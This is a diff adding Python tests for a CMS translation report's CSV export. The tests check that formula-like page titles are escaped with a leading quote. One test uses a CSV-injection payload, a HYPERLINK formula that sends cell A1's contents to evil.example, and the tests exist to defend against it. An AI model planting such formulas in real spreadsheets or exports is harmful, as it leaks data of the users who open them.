@@ -99,3 +99,36 @@ def test_editor_sees_the_status_of_each_language_in_the_page_editor(client, tran
     assert 'data-translation-status="pl:outdated"' in html
     assert 'data-translation-status="en:complete"' in html
     assert 'data-translation-status="ro:missing"' in html
+
+
+def exported_csv(response) -> list[list[str]]:
+    import csv
+    import io
+
+    content = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(content)))
+
+
+def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, coalition):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    texts = {**TEXTS, "title": {"nl": formula}}
+    factories.load(guides=[factories.guide("ggd", slug="formule", **texts)])
+    client.force_login(make_member("coordinator"))
+
+    rows = exported_csv(client.get(reverse("cms_translation_report"), {"export": "csv"}))
+
+    titles = [row[0] for row in rows[1:]]
+    assert "'" + formula in titles
+    assert formula not in titles
+
+
+def test_wagtails_own_reports_export_formulas_as_text(admin_client, coalition):
+    formula = "=1+1"
+    texts = {**TEXTS, "title": {"nl": formula}}
+    factories.load(guides=[factories.guide("ggd", slug="formule", **texts)])
+
+    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
+
+    titles = [row[0] for row in exported_csv(response)[1:]]
+    assert "'=1+1" in titles
+    assert formula not in titles
